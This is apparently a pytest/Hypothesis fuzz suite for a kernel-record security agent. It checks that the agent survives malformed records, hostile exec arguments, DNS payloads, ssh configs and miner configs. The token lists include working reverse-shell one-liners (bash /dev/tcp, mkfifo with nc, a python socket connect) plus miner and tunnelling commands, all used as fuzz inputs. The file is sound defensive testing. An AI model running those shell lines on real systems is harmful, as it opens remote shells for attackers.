# SPDX-License-Identifier: Apache-2.0
"""The agent fed hostile records on the fake kernel (tests/fakekernel.py).

A workload chooses its argv, its paths, its cgroup names, the bytes it sends
and the files in its container; the kernel passes all of it on. Whatever
they are, for every record:

- nothing escapes the handler (agent.handle) or the loop's drain (_drain),
- every line written is one JSON object,
- the record is handled within RECORD_S.

(a) raw bytes, and valid records with bytes flipped or cut; (b) well-formed
records of every kind with hostile fields; (c) execs whose container holds
hostile ssh configs, miner configs and /etc/passwd.
"""
from __future__ import annotations

import os
import struct
import sys
import time
from pathlib import Path

import orjson
import pytest

from guard.kernel.records import StdioSocketRecord
from hypothesis import HealthCheck, Phase, given, settings, strategies as st

from guard.kernel import abi
from guard.kernel.abi import Action, CgroupOp, Proto, SampleKind
from tests.fakekernel import (FAKE_PID, FakeFiles, FakeKernel, cgroup_record, connect_record,
                              exec_record, fake_agent, payload_record, socket_record,
                              stdio_socket_record)

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = [p.read_bytes() for p in sorted((ROOT / "tests/fixtures/payloads").glob("*.bin"))]
RECORD_S = 0.5          # per record: generous for a 2-vCPU VM
# no explain phase: it replays failures under a tracer, many times slower,
# which the time bound would take for the record's own cost
FUZZ = settings(max_examples=1000, deadline=None,
                phases=[Phase.explicit, Phase.reuse, Phase.generate, Phase.target, Phase.shrink],
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


# --------------------------------------------------------------------------
# The properties


def check(kernel: FakeKernel, *raws: bytes) -> None:
    """Feed records one batch each and assert the properties."""
    for raw in raws:
        kernel.failures.clear()     # this record's only (a failed test leaves some)
        took = _timed(kernel, raw)
        if kernel.failures:
            record, exc, trace = kernel.failures[0]
            pytest.fail(f"agent.handle raised {type(exc).__name__}: {exc}\n"
                        f"record: {record[:160]!r}\n{trace}")
        for line in kernel.take_lines():
            try:
                event = orjson.loads(line)
            except orjson.JSONDecodeError as exc:
                pytest.fail(f"not JSON ({exc}): {line[:300]!r}")
            assert isinstance(event, dict) and "kind" in event, line[:300]
        # under a tracer (coverage) everything runs many times slower
        assert took < RECORD_S or sys.gettrace() is not None, \
            f"a record took {took:.3f} s: {raw[:160]!r}"


def _timed(kernel: FakeKernel, raw: bytes) -> float:
    """Seconds to handle raw; a slow first time is measured twice more and
    the fastest counts (a GC pass or the scheduler is not the record's)."""
    took = float("inf")
    for _attempt in range(3):
        started = time.perf_counter()
        kernel.push(raw)        # an exception out of _drain fails the test here
        took = min(took, time.perf_counter() - started)
        if took < RECORD_S or kernel.failures:
            break
    return took


def _warm(kernel: FakeKernel) -> FakeKernel:
    """One record of each kind first: lazy set-ups are not the records' time."""
    d = kernel.defaults({})
    kernel.push(exec_record(["ssh", "-R", "1:a:2", "h"], held=True, **d),
                exec_record(["xmrig", "-o", "stratum+tcp://a:3333"], **d),
                payload_record(PAYLOADS[0], **d), connect_record(**d),
                payload_record(b"\0" * 30, kind=SampleKind.DNS_ANSWER, port=53, **d),
                stdio_socket_record(**d), socket_record(**d))
    kernel.take_lines()
    return kernel


@pytest.fixture(scope="module")
def guarded():
    """The default policy (every detection enforcing) guarding one cgroup."""
    with fake_agent() as kernel:
        yield _warm(kernel)


@pytest.fixture(scope="module")
def discovering():
    """The default policy, guarding containers as their cgroups appear."""
    with fake_agent(cgroups=()) as kernel:
        yield kernel


# --------------------------------------------------------------------------
# Field strategies

u8, u16 = st.integers(0, 0xFF), st.integers(0, 0xFFFF)
u32, u64 = st.integers(0, 0xFFFF_FFFF), st.integers(0, 2**64 - 1)
actions = st.sampled_from(list(Action))
pids = st.one_of(st.just(FAKE_PID), st.integers(FAKE_PID, FAKE_PID + 50), u32)
addresses = st.one_of(st.ip_addresses().map(str), st.binary(min_size=16, max_size=16))


ACTIVE, FAIL_CLOSED = "active", "fail-closed"     # resolved per kernel by header_for()
headers = st.fixed_dictionaries(dict(
    pid=pids, ppid=u32, uid=u32, start_ns=u64, ktime_ns=u64,
    cgroup_id=st.one_of(st.none(), u64),                   # None: the guarded cgroup
    policy_id=st.one_of(st.sampled_from([ACTIVE, FAIL_CLOSED, 0]), u32),
    rule_id=st.one_of(st.just(abi.RULE_NONE), st.just(abi.RULE_DETECTION), u16),
    action=actions, comm=st.binary(max_size=abi.COMM_LEN)))
#: mostly the guarded cgroup and the policy in force, so that records reach
#: the classifiers; sometimes anything at all
maybe_headers = st.one_of(st.just({}), headers)


def header_for(kernel: FakeKernel, header: dict) -> dict:
    header = dict(header)
    if header.get("cgroup_id", 0) is None:
        del header["cgroup_id"]
    policy_id = header.get("policy_id")
    if policy_id == ACTIVE:
        del header["policy_id"]
    elif policy_id == FAIL_CLOSED:
        header["policy_id"] = kernel.policy_id() | 1 << 31
    return kernel.defaults(header)


PROGRAMS = ["ssh", "autossh", "dbclient", "plink", "bash", "sh", "dash", "zsh", "python3",
            "perl", "ruby", "php", "node", "lua", "awk", "busybox", "nc", "ncat", "socat",
            "telnet", "xmrig", "cpuminer", "minerd", "ngrok", "cloudflared", "chisel", "frpc",
            "bore", "lt", "/usr/bin/ssh", "/tmp/.x/xmrig", "env", "nohup", "timeout", "sudo"]
TOKENS = ["-R", "-L", "-D", "-N", "-f", "-n", "-T", "-o", "-F", "-J", "-W", "-c", "-e", "-i",
          "-p", "-l", "-O", "-C", "-M", "-w", "-u", "--url", "--config", "-x", "-t", "-a",
          "9000:localhost:22", "0:localhost:22", "[::1]:80:h:22", "localhost:22", "host",
          "user@host", "ssh://u@h:2222", "/dev/tcp/198.18.0.9/4444", "/dev/udp/1.2.3.4/53",
          "stratum+tcp://pool.test:3333", "stratum2+tcp://x:3336", "pool.minexmr.com:4444",
          "ProxyCommand=nc %h %p", "RemoteForward=9000 localhost:22", "RemoteForward 1 a:2",
          "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "0<&196;exec 196<>/dev/tcp/1.2.3.4/80",
          "import socket,subprocess,os;s=socket.socket();s.connect(('1.2.3.4',9))",
          "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 1.2.3.4 9 >/tmp/f",
          "TCP:1.2.3.4:9", "EXEC:/bin/sh", "tcp", "http", "8080", "config.json",
          "~/.ssh/config", "%h", "%%", "*", "{", "}", "[", "\\", '"', "'", "`", "$(", "=",
          "--donate-level=1", "-k", "--rig-id", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7",
          "randomx", "cn/r", "tcp 22", "-oRemoteForward=1 a:2", "-R1:a:2", "-NfR9:a:1"]
args = st.one_of(st.sampled_from(TOKENS), st.binary(max_size=48), st.text(max_size=48),
                 st.tuples(st.sampled_from(TOKENS), st.binary(max_size=6),
                           st.sampled_from(TOKENS)).map(
                     lambda t: t[0].encode() + t[1] + t[2].encode()))
argvs = st.one_of(
    st.tuples(st.sampled_from(PROGRAMS), st.lists(args, max_size=24)).map(
        lambda t: [t[0], *t[1]]),
    st.lists(args, max_size=8),
    st.integers(1000, 3000).map(lambda n: ["ssh"] + ["-R"] * n),        # past ARGV_MAX
    st.integers(500, 4096).map(lambda n: ["bash", "-c", "x" * n]),
    st.integers(1, 4096).map(lambda n: [b"\xff" * n]),
    st.integers(1, 4096).map(lambda n: [b"\0" * n]))
paths = st.one_of(st.sampled_from(["/usr/bin/ssh", "/bin/bash", "/tmp/xmrig", "", "/",
                                   "/usr/bin/xmrig (deleted)"]),
                  st.binary(max_size=300), st.text(max_size=300))


# --------------------------------------------------------------------------
# (a) raw bytes


@FUZZ
@given(raw=st.one_of(st.binary(max_size=64), st.binary(min_size=64, max_size=5000)))
def test_raw_bytes(guarded, raw):
    check(guarded, raw)


@st.composite
def damaged(draw) -> bytes:
    """A valid record of any kind with bytes overwritten and maybe cut."""
    kind = draw(st.sampled_from(["exec", "connect", "socket", "cgroup", "payload", "stdio"]))
    raw = bytearray({
        "exec": lambda: exec_record(["ssh", "-R", "9000:localhost:22", "host"], held=True),
        "connect": lambda: connect_record(),
        "socket": lambda: socket_record(),
        "cgroup": lambda: cgroup_record("/machine.slice/libpod-" + "a" * 64 + ".scope"),
        "payload": lambda: payload_record(draw(st.sampled_from(PAYLOADS))),
        "stdio": lambda: stdio_socket_record(),
    }[kind]())
    for at, value in draw(st.lists(st.tuples(st.integers(0, len(raw) - 1), u8), max_size=12)):
        raw[at] = value
    cut = draw(st.one_of(st.none(), st.integers(0, len(raw))))
    return bytes(raw[:cut] if cut is not None else raw)


@FUZZ
@given(raw=damaged())
def test_damaged_records(guarded, raw):
    check(guarded, raw)


# --------------------------------------------------------------------------
# (b) well-formed records, hostile fields


@FUZZ
@given(argv=argvs, filename=paths, exe=paths, flags=st.one_of(st.integers(0, 7), u32),
       extra=st.fixed_dictionaries({}, optional={"argv_size": u16, "exe_size": u16}),
       header=maybe_headers)
def test_exec_records(guarded, argv, filename, exe, flags, extra, header):
    check(guarded, exec_record(argv, filename=filename, exe=exe, flags=flags, **extra,
                               **header_for(guarded, header)))


@FUZZ
@given(ip=addresses, port=u16, proto=st.one_of(st.sampled_from(list(Proto)), u8),
       hook=st.one_of(st.none(), st.sampled_from(list(abi.Hook)), u8),
       family=st.one_of(st.none(), st.sampled_from([4, 6]), u8), header=maybe_headers)
def test_connect_records(guarded, ip, port, proto, hook, family, header):
    check(guarded, connect_record(ip, port, proto=proto, hook=hook, family=family,
                                  **header_for(guarded, header)))


@FUZZ
@given(family=u32, kind=u32, protocol=u32, header=maybe_headers)
def test_socket_records(guarded, family, kind, protocol, header):
    check(guarded, socket_record(family, kind, protocol, **header_for(guarded, header)))


@st.composite
def dns_messages(draw, answer: bool) -> bytes:
    """A DNS query or answer with hostile names: odd label bytes, long
    labels, compression pointers anywhere (loops included), lying counts."""
    def name() -> bytes:
        labels = draw(st.lists(st.one_of(
            st.sampled_from([b"xmr", b"pool", b"minexmr", b"com", b"nanopool", b"org",
                             b"donate", b"v2", b"xmrig", b"*", b"", b"\xff\x00."]),
            st.binary(max_size=70)), max_size=8))
        out = b"".join(bytes([min(len(l), 255)]) + l[:255] for l in labels)
        tail = draw(st.one_of(st.just(b"\0"), st.builds(
            lambda p: struct.pack(">H", 0xC000 | p), st.integers(0, 0x3FFF))))
        return out + tail
    counts = draw(st.tuples(st.integers(0, 3), st.integers(0, 3), u16, u16))
    msg = struct.pack(">HHHHHH", draw(u16), 0x8180 if answer else 0x0100, *counts)
    for _ in range(counts[0]):
        msg += name() + struct.pack(">HH", draw(st.sampled_from([1, 28, 5, 16, 255])), 1)
    for _ in range(counts[1]):
        rdata = draw(st.one_of(st.binary(max_size=40), st.builds(name)))
        msg += (name() + struct.pack(">HHIH", draw(st.sampled_from([1, 5, 28, 16])), 1,
                                     draw(u32), draw(st.one_of(st.just(len(rdata)), u16)))
                + rdata)
    return msg + draw(st.binary(max_size=16))


samples = st.one_of(
    st.binary(max_size=600),
    st.sampled_from(PAYLOADS),
    st.tuples(st.sampled_from(PAYLOADS), st.binary(max_size=40), st.integers(0, 512)).map(
        lambda t: t[0][:t[2]] + t[1] + t[0][t[2]:]),
    st.builds(lambda b: b"SSH-2.0-" + b, st.binary(max_size=80)),
    st.builds(lambda b: b'{"id":1,"method":"' + b + b'","params":[', st.binary(max_size=60)),
    st.builds(lambda n: b"[" * n + b"{" * n, st.integers(1, 256)),
    st.builds(lambda b: b"CONNECT " + b + b" HTTP/1.1\r\n\r\n", st.binary(max_size=80)),
    st.builds(lambda b: b"POST / HTTP/1.1\r\nX-Mining-Extensions: " + b, st.binary(max_size=80)),
    st.builds(lambda b: b"\x05\x01\x00\x03" + b, st.binary(max_size=80)),
    st.builds(lambda b: b"\x04\x01\x00\x50\x00\x00\x00\x01" + b, st.binary(max_size=80)),
    st.builds(lambda b: b"\x16\x03\x01" + b, st.binary(max_size=300)),
    dns_messages(answer=False), dns_messages(answer=True))


@FUZZ
@given(sample=samples, kind=st.sampled_from(list(SampleKind)),
       port=st.one_of(st.sampled_from([53, 3333, 443, 22, 80, 9000, 4444, 14444]), u16),
       cookie=st.one_of(st.integers(1, 4), u64), ip=addresses,
       family=st.one_of(st.none(), st.sampled_from([4, 6])),
       proto=st.sampled_from(list(Proto)), flags=u8, held=st.booleans(),
       sizes=st.fixed_dictionaries({}, optional={"payload_size": u32, "sample_size": u16}),
       first=samples, header=maybe_headers)
def test_payload_records(guarded, sample, kind, port, cookie, ip, family, proto, flags, held,
                         sizes, first, header):
    """A first payload, then a sample of any kind on the same flow (a reply
    included)."""
    check(guarded,
          payload_record(first, kind=SampleKind.FIRST, port=port, cookie=cookie,
                         **guarded.defaults({})),
          payload_record(sample, kind=kind, ip=ip, port=port, cookie=cookie, family=family,
                         proto=proto, flags=flags, held=held, **sizes,
                         **header_for(guarded, header)))


@FUZZ
@given(ip=addresses, port=u16, oldfd=u32, newfd=st.one_of(st.integers(0, 2), u32),
       cookie=u64, proto=st.one_of(st.sampled_from(list(Proto)), u8),
       family=st.one_of(st.none(), st.sampled_from([4, 6]), u8), header=maybe_headers)
def test_stdio_socket_records(guarded, ip, port, oldfd, newfd, cookie, proto, family, header):
    check(guarded, stdio_socket_record(ip, port, oldfd=oldfd, newfd=newfd, cookie=cookie,
                                       proto=proto, family=family,
                                       **header_for(guarded, header)))


HEX = "0123456789abcdef"
# a path component a workload may name a cgroup (no "/", no NUL, not . or ..)
components = st.text(st.characters(exclude_characters="/\0", exclude_categories=("Cs",)),
                     min_size=1, max_size=40).filter(
    lambda c: c not in (".", "..", "cgroup.procs"))
ids = st.text(HEX, min_size=64, max_size=64)
containers = st.one_of(ids.map(lambda i: f"libpod-{i}.scope"),
                       ids.map(lambda i: f"docker-{i}.scope"),
                       ids.map(lambda i: f"cri-containerd-{i}.scope"),
                       ids.map(lambda i: f"crio-{i}"), components)


@FUZZ
@given(parents=st.lists(components, min_size=1, max_size=4), leaf=containers,
       create=st.booleans(), remove=st.booleans(),
       raw_path=st.one_of(st.none(), st.binary(max_size=300)),
       op=st.one_of(st.sampled_from(list(CgroupOp)), u32), level=st.one_of(st.none(), u32),
       other_id=st.one_of(st.none(), u64), header=maybe_headers)
def test_cgroup_records(discovering, parents, leaf, create, remove, raw_path, op, level,
                        other_id, header):
    """Containers appear and go under odd parents; the kernel names any path."""
    kernel = discovering
    relative = "/" + "/".join([*parents, leaf])
    header = header_for(kernel, header)
    made = create and len(os.fsencode(relative)) < 200
    if made:
        header["cgroup_id"] = kernel.tree.mkdir(relative).id if other_id is None else other_id
    path = raw_path if raw_path is not None else os.fsencode(relative)
    try:
        check(kernel, cgroup_record(path, op, level=level, **header),
              *([cgroup_record(path, CgroupOp.RMDIR, **header)] if remove else []))
    finally:
        if made:
            kernel.tree.rmdir(parents[0])


# --------------------------------------------------------------------------
# (c) execs in a hostile container


def _ssh_config(lines: list[tuple[str, str]]) -> bytes:
    return "\n".join(f"{k} {v}" for k, v in lines).encode("utf-8", "surrogateescape")


SSH_KEYWORDS = ["Host", "Match", "Include", "RemoteForward", "LocalForward", "DynamicForward",
                "ProxyJump", "ProxyCommand", "Hostname", "User", "Port", "ControlMaster",
                "PermitRemoteOpen", "ExitOnForwardFailure", "GatewayPorts", "  ", "#"]
SSH_VALUES = ["*", "!*", "all", "host", "exec true", "final", "canonical", "user root",
              "~/.ssh/config", "/etc/ssh/ssh_config", "config.d/*", "*", "../../../*",
              "9000 localhost:22", "0 localhost:22", "[::1]:1 a:2", "%h:%p", "%d/%u",
              "localhost", "\"quoted", "a=b", "yes", "\xff\udcff"]
ssh_configs = st.one_of(
    st.binary(max_size=3000),
    st.lists(st.tuples(st.sampled_from(SSH_KEYWORDS),
                       st.one_of(st.sampled_from(SSH_VALUES), st.text(max_size=30))),
             max_size=80).map(_ssh_config),
    st.integers(1, 3000).map(lambda n: b"Include ~/.ssh/config\n" * n),    # includes itself
    st.integers(1, 20000).map(lambda n: b"Host " + b"*" * n + b"\nRemoteForward 1 a:2\n"))
json_configs = st.one_of(
    st.binary(max_size=3000),
    st.integers(1, 200_000).map(lambda n: b"[" * n),                      # nesting
    st.integers(1, 100_000).map(lambda n: b'{"a":' * n + b"1" + b"}" * n),
    st.integers(1, 2000).map(lambda n: b'{"pools":[' + b'{"url":"stratum+tcp://a:3333"},' * n
                             + b"]}"),
    st.builds(lambda b: b'{"pools":[{"url":"' + b + b'","user":"44A","rig-id":1}],'
                        b'"donate-level":1, // comment\n}', st.binary(max_size=200)),
    st.builds(lambda b: b"/*" + b, st.binary(max_size=200)))
passwd_files = st.one_of(
    st.binary(max_size=2000),
    st.lists(st.tuples(st.text(max_size=12), st.integers(0, 70000), st.text(max_size=30)),
             max_size=30).map(lambda rows: "\n".join(
                 f"{n}:x:{u}:{u}::{h}:/bin/sh" for n, u, h in rows).encode(
                 "utf-8", "surrogateescape")))
HOMES = ["/root", "/home/u", "/", "/home/u/"]


@st.composite
def containers_files(draw) -> FakeFiles:
    home = draw(st.sampled_from(HOMES))
    files = {"/etc/passwd": draw(passwd_files)}
    for path in draw(st.lists(st.sampled_from([
            f"{home}/.ssh/config", "/etc/ssh/ssh_config", "/etc/ssh/ssh_config.d/a.conf",
            f"{home}/.ssh/config.d/x", "/tmp/cfg", "/root/.ssh/config"]), max_size=4)):
        files[path] = draw(ssh_configs)
    for path in draw(st.lists(st.sampled_from([
            "/usr/bin/config.json", "/tmp/.x/config.json", "/work/config.json", "/tmp/c.json",
            "/tmp/xmrig/config.json"]), max_size=3)):
        files[path] = draw(json_configs)
    return FakeFiles(files, cwd=draw(st.sampled_from(["/", "/work", "/tmp/.x", home])),
                     uid=draw(st.sampled_from([0, 1000, 65534, 2**32 - 1])))


CONTAINER_ARGVS = st.one_of(
    st.sampled_from([
        ["ssh", "host"], ["ssh", "-N", "git.test"], ["ssh", "-F", "/tmp/cfg", "host"],
        ["ssh", "-F", "/dev/null", "h"], ["autossh", "-M", "0", "host"],
        ["xmrig"], ["/usr/bin/xmrig"], ["./xmrig", "-c", "/tmp/c.json"],
        ["/tmp/xmrig/xmrig", "--config=config.json"], ["cpuminer", "-c", "/tmp/c.json"],
        ["/tmp/.x/kworker"], ["python3", "-c", "import socket"]]),
    argvs)


@FUZZ
@given(files=containers_files(), argv=CONTAINER_ARGVS,
       exe=st.one_of(st.none(), st.sampled_from(["/usr/bin/xmrig", "/tmp/.x/kworker",
                                                 "/usr/bin/ssh", "/tmp/xmrig/xmrig"])))
def test_execs_in_a_hostile_container(guarded, files, argv, exe):
    guarded.files[FAKE_PID] = files
    try:
        check(guarded, exec_record(argv, exe=exe, held=True, **guarded.defaults({})))
    finally:
        del guarded.files[FAKE_PID]


# Cases worth naming: the first two are what the fuzzing above found


@pytest.mark.parametrize("config", [b"[" * 200_000, b'{"a":' * 100_000 + b"1" + b"}" * 100_000],
                         ids=["array", "object"])
def test_a_deeply_nested_miner_config(guarded, config):
    guarded.files[FAKE_PID] = FakeFiles({"/usr/bin/config.json": config})
    try:
        check(guarded, exec_record(["/usr/bin/xmrig"], held=True, **guarded.defaults({})))
    finally:
        del guarded.files[FAKE_PID]


def test_an_argument_that_is_not_utf8(guarded):
    """/bin/true $'\\xff'"""
    check(guarded, exec_record(["/bin/true", b"\xff"], **guarded.defaults({})))


def test_an_ssh_config_that_includes_itself(guarded):
    guarded.files[FAKE_PID] = FakeFiles({"/root/.ssh/config": b"Include ~/.ssh/config\n" * 202})
    try:
        check(guarded, exec_record(["ssh", "host"], held=True, **guarded.defaults({})))
    finally:
        del guarded.files[FAKE_PID]


# --------------------------------------------------------------------------
# The harness itself: it finds what it is meant to find


def test_the_harness_reports_a_handler_that_raises(guarded, monkeypatch):
    def broken(*_args, **_kw):
        raise RecursionError("maximum recursion depth exceeded")
    monkeypatch.setitem(guarded.agent.handlers._table, StdioSocketRecord, broken)
    with pytest.raises(BaseException, match="RecursionError|recursion"):
        check(guarded, stdio_socket_record(**guarded.defaults({})))
    guarded.take_lines()
